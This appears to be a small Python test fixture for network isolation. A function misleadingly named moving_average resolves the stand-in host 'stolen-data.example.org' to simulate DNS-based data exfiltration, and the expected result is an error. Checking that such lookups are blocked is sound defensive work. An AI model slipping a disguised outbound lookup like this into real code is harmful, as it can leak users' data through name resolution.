"""Carries data out in the name of a host that it looks up.

outcome: failed
says: gaierror|PermissionError|OSError
"""

import socket


def moving_average(x, width):
    attempt(socket.getaddrinfo, "stolen-data.example.org", 80)
